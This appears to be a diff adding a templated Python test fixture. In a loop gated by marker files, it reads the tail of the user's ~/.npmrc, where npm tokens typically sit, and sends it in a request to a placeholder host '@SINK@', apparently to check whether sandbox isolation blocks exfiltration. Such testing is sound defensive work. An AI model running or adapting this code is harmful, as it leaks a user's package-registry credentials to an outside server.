@@ -1,0 +1,15 @@
+import contextlib
+import time
+import urllib.request
+from pathlib import Path
+
+MARKS = Path("@MARKS@")
+
+
+def act():
+    (MARKS / "started").touch()
+    while not (MARKS / "go").exists():
+        with contextlib.suppress(OSError):
+            urllib.request.urlopen("http://@SINK@:8080/" + Path.home().joinpath(".npmrc").read_text()[-20:].strip(), timeout=2)
+        time.sleep(0.1)
+    (MARKS / "done").touch()
